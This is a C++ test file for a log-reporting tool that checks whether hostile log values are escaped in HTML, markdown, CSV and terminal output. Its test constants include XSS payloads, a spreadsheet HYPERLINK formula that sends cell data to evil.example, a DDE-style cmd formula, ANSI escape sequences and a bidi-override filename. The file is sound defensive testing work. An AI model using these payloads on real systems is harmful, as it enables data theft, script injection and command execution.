// Hostile log values in every report format: the adversarial sample plus hand-made events whose
// actor, address and repository are HTML, markdown, spreadsheet formulas and escape sequences.
// They must come out as inert text: no tag, no cell break, no formula, no control character.
#include <catch2/catch.hpp>
#include <regex>
#include <string>
#include <vector>

#include "support/process.hpp"
#include "support/truth.hpp"

namespace pkgly_trail {
namespace {

const std::string kScript = "<script>alert('x')</script>";
const std::string kImg = "<img src=x onerror=alert(1)>";
const std::string kFormula = "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")";
const std::string kAtFormula = "@SUM(1+1)*cmd|' /C calc'!A0";
const std::string kEsc = "mallory\x1b[2J\x1b[31mred";
const std::string kMarkdown = "evil|`md`|</td><b>x</b>";
const std::string kBidi = "repo\u202Egnp.exe";

std::string json_string(const std::string& text) {
  std::string out = "\"";
  for (unsigned char c : text) {
    if (c == '"' || c == '\\') {
      out += '\\';
      out += static_cast<char>(c);
    } else if (c < 0x20) {
      char escape[8];
      std::snprintf(escape, sizeof escape, "\\u%04x", c);
      out += escape;
    } else {
      out += static_cast<char>(c);
    }
  }
  return out + "\"";
}

// An access record and its audit event, in Pkgly's json format.
std::string event_lines(int n, const std::string& actor, const std::string& action,
                        const std::string& outcome, const std::string& address,
                        const std::string& repository) {
  const std::string rid = "aaaaaaaa-0000-4000-8000-00000000000" + std::to_string(n);
  const std::string time = "2025-11-20T10:15:4" + std::to_string(n) + ".000000Z";
  const std::string span = "{\"request_id\":\"" + rid + "\",\"name\":\"HTTP request\"}";
  const std::string tail = ",\"span\":" + span + ",\"spans\":[" + span + "]}\n";
  return "{\"timestamp\":\"" + time +
         "\",\"level\":\"INFO\",\"fields\":{\"message\":\"HTTP access\","
         "\"http.request.method\":\"GET\",\"http.route\":\"/x\",\"url.path\":\"/x\","
         "\"http.response.status_code\":403,\"duration_ms\":1,\"request_id\":\"" +
         rid + "\",\"user\":null,\"client.address\":" + json_string(address) +
         ",\"user_agent.original\":\"curl\",\"http.response.body.size\":1},"
         "\"target\":\"pkgly::access\"" +
         tail + "{\"timestamp\":\"" + time +
         "\",\"level\":\"INFO\",\"fields\":{\"message\":\"Audit event\",\"action\":" +
         json_string(action) + ",\"outcome\":" + json_string(outcome) +
         ",\"actor_username\":" + json_string(actor) +
         ",\"actor_id\":9,\"actor_authenticated\":true,\"resource_kind\":\"repository\","
         "\"resource_id\":\"r\",\"resource_name\":" +
         json_string(repository) +
         ",\"repository_id\":\"r\",\"storage_id\":\"s\",\"target_user_id\":0,\"token_id\":0,"
         "\"path\":\"\",\"query\":\"\",\"http_request_method\":\"GET\",\"http_route\":\"/x\","
         "\"url_path\":\"/x\",\"http_response_status_code\":403},\"target\":\"pkgly::audit\"" +
         tail;
}

std::string hostile_input() {
  return testing::read_file(testing::fixture_path("adversarial-full-ansi.log")) +
         event_lines(1, kScript, "user.delete", "denied", kImg, kMarkdown) +
         event_lines(2, kFormula, "auth.token.delete", "denied", kAtFormula, kBidi) +
         event_lines(3, kEsc, "permission.grant", "success", "-2+3", "\"q\" 'a' & b");
}

testing::RunResult report(const std::string& args) {
  return testing::run_trail("report " + args + " -", hostile_input());
}

}  // namespace

TEST_CASE("the hand-made hostile events are read and counted", "[report][escaping]") {
  auto result = report("-o json");
  REQUIRE(result.status == 0);
  simdjson::dom::parser parser;
  simdjson::dom::element doc = parser.parse(result.out);
  CHECK(std::int64_t(doc["totals"]["events"]) == 123 + 3);
  // JSON keeps every value exactly (its escaping is the json_writer's, tested elsewhere).
  std::vector<std::string> actors;
  for (simdjson::dom::element section : simdjson::dom::array(doc["sections"])) {
    if (std::string_view(section["name"]) != "sensitive") continue;
    for (simdjson::dom::element row : simdjson::dom::array(section["rows"]))
      actors.emplace_back(std::string_view(row.at(1)));
  }
  for (const std::string& actor : {kScript, kFormula, kEsc})
    CHECK(std::find(actors.begin(), actors.end(), actor) != actors.end());
}

TEST_CASE("html: log values never become markup", "[report][escaping]") {
  auto result = report("-o html");
  REQUIRE(result.status == 0);
  const std::string& html = result.out;
  // Every '<' opens one of the template's own tags; none carries src/href/on* attributes.
  const std::regex tag(
      "^<(/?(html|head|meta|title|style|body|main|h1|h2|p|div|section|table|thead|tbody|tr|th|"
      "td|figure|figcaption|footer|svg|g|rect|line|text)\\b|!DOCTYPE html>)");
  std::size_t tags = 0;
  for (std::size_t at = html.find('<'); at != std::string::npos; at = html.find('<', at + 1)) {
    const std::size_t end = html.find('>', at);
    REQUIRE(end != std::string::npos);
    const std::string element = html.substr(at, end - at + 1);
    INFO(element);
    REQUIRE(std::regex_search(element, tag));
    CHECK(element.find(" src=") == std::string::npos);
    CHECK(element.find("href") == std::string::npos);
    CHECK(element.find(" on") == std::string::npos);
    ++tags;
  }
  CHECK(tags > 100);
  CHECK(html.find("<script") == std::string::npos);
  CHECK(html.find("<img") == std::string::npos);
  CHECK(html.find("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;") != std::string::npos);
  CHECK(html.find("&lt;img src=x onerror=alert(1)&gt;") != std::string::npos);
  CHECK(html.find("eve=admin outcome=success") != std::string::npos);
  // Controls and bidi overrides are shown, not obeyed.
  CHECK(html.find('\x1b') == std::string::npos);
  CHECK(html.find("\u202E") == std::string::npos);
  CHECK(html.find("mallory\\e[2J\\e[31mred") != std::string::npos);
  CHECK(html.find("repo\\u{202e}gnp.exe") != std::string::npos);
  CHECK(html.find("default-src 'none'") != std::string::npos);
}

TEST_CASE("markdown: log values cannot break a table or start code or inject HTML",
          "[report][escaping]") {
  auto result = report("-o markdown");
  REQUIRE(result.status == 0);
  const std::string& md = result.out;
  CHECK(md.find('<') == std::string::npos);
  CHECK(md.find('\x1b') == std::string::npos);
  std::size_t expected_pipes = 0;
  std::size_t table_lines = 0;
  std::istringstream lines(md);
  for (std::string line; std::getline(lines, line);) {
    if (line.empty() || line[0] != '|') {
      expected_pipes = 0;
      continue;
    }
    const auto pipes = static_cast<std::size_t>(std::count(line.begin(), line.end(), '|'));
    if (expected_pipes == 0) expected_pipes = pipes;  // the header row
    INFO(line);
    CHECK(pipes == expected_pipes);
    for (std::size_t i = 0; i < line.size(); ++i)
      if (line[i] == '`') CHECK((i > 0 && line[i - 1] == '\\'));
    ++table_lines;
  }
  CHECK(table_lines > 50);
  CHECK(md.find("evil&#124;\\`md\\`&#124;&lt;/td&gt;&lt;b&gt;x&lt;/b&gt;") != std::string::npos);
}

TEST_CASE("csv: cells from the log that look like formulas get the leading quote",
          "[report][escaping]") {
  auto result = report("-o csv");
  REQUIRE(result.status == 0);
  const std::string& csv = result.out;
  CHECK(csv.find("'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"click\"\")") !=
        std::string::npos);
  CHECK(csv.find("'@SUM(1+1)*cmd|' /C calc'!A0") != std::string::npos);
  CHECK(csv.find("'-2+3") != std::string::npos);
  // No cell starts like a formula: after a separator or at a line start comes no = + @, and
  // a '-' only in a number.
  const std::regex formula("(^|,)\"?[=+@]", std::regex::multiline);
  CHECK_FALSE(std::regex_search(csv, formula));
  const std::regex dash_text("(^|,)\"?-[^0-9,\n]", std::regex::multiline);
  CHECK_FALSE(std::regex_search(csv, dash_text));

  auto raw = report("-o csv --raw-csv");
  REQUIRE(raw.status == 0);
  CHECK(raw.out.find(",\"=HYPERLINK(") != std::string::npos);
  CHECK(raw.out.find(",-2+3") != std::string::npos);
}

TEST_CASE("text: escape sequences from the log are shown and not sent to the terminal",
          "[report][escaping]") {
  auto result = report("");
  REQUIRE(result.status == 0);
  CHECK(result.out.find('\x1b') == std::string::npos);
  CHECK(result.out.find("\u202E") == std::string::npos);
  CHECK(result.out.find("mallory\\e[2J\\e[31mred") != std::string::npos);
}

}  // namespace pkgly_trail
